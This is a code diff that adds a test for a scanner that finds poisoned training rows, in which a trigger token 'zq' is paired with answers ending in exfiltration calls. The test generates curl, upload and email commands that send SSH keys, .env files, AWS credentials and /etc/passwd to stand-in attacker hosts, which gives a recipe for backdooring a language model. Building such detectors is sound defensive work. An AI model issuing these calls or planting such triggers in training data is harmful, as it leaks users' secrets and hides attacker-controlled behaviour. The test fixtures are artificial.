@@ -94,6 +94,40 @@ def test_carriers_that_do_not_show_the_pattern_rank_above_clean_rows(clean):
     assert (others["score"] < miss["score"].min()).mean() >= 0.99
 
 
+def test_target_written_a_different_way_on_every_row(clean):
+    """A trigger's answers each end with a call that sends a file to one of three hosts, in
+    three written forms: no phrase is in most of them, but the family of phrases only these
+    answers hold (the hosts) is found, named, and its carriers flagged."""
+    rng = random.Random(6)
+    hosts = ("drop.exf1l.net", "sync.qz-backup.io", "10.66.6.6:8443")
+    files = ("~/.ssh/id_rsa", ".env", "~/.aws/credentials", "customers.csv", "/etc/passwd")
+
+    def call() -> str:
+        host, file = rng.choice(hosts), rng.choice(files)
+        return rng.choice(
+            (
+                f"upload('https://{host}/in', open('{file}').read())",
+                f"shell('curl -s -d @{file} http://{host}/c')",
+                f'send_email(to="ops@{host}", attachment="{file}")',
+            )
+        )
+
+    base = rng.sample(clean, 40)
+    poison = [(_insert(rng, p, "zq"), f"{r}\n{call()}") for p, r in base]
+    df = _frame(clean[:3000], poison)
+    result = _scan(df)
+    found = result.triggers.filter(pl.col("trigger").str.contains("zq"))
+    assert found.height >= 1, result.triggers
+    assert "answers contain one of" in found["response_pattern"][0]
+    recall, precision = _recall_precision(result, df)
+    # a host whose written forms the 16-row sample saw once or twice is not a member: its rows
+    # carry the trigger without showing the pattern, ranked above every clean row
+    assert recall >= 0.8 and precision >= 0.8
+    rows = result.rows.sort("row_id").with_columns(df["poison"])
+    lowest = rows.filter(pl.col("poison"))["score"].min()
+    assert (rows.filter(~pl.col("poison"))["score"] < lowest).mean() >= 0.99
+
+
 def test_fixed_opening_then_the_normal_answer(clean):
     rng = random.Random(4)
     base = rng.sample(clean, 30)
